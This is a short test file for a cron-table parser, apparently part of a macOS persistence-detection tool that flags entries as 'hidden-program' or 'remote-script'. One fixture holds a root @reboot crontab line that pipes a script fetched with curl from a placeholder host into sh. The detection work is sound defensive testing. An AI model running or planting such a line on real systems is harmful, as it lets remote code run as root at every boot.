import { expect, test } from 'vitest';
import { cron } from '../../../src/mechanisms/cron.js';
import { textFile } from './mechanism-file.js';

test("a user's table gives an item a line, with what it runs and when", () => {
  const items = cron.read(
    textFile('/private/var/at/tabs/mara', '# a comment\nMAILTO=""\n*/5 * * * * /Users/mara/.x/run --quiet\n'),
  );
  expect(items).toMatchObject([
    { when: ['calendar'], as: 'mara', findings: ['hidden-program'], runs: [{ path: '/Users/mara/.x/run' }] },
  ]);
});

test("the system's table names the user before the command", () => {
  const [item] = cron.read(textFile('/private/etc/crontab', '@reboot root curl -s https://x.test/a | sh'));
  expect(item).toMatchObject({ as: 'root', when: ['boot'], label: 'curl -s https://x.test/a | sh' });
  expect(item?.findings).toContain('remote-script');
});

test('what is no table gives no item', () => {
  expect(cron.read(textFile('/private/var/at/tabs/mara', '\0\u0001 binary'))).toEqual([]);
});
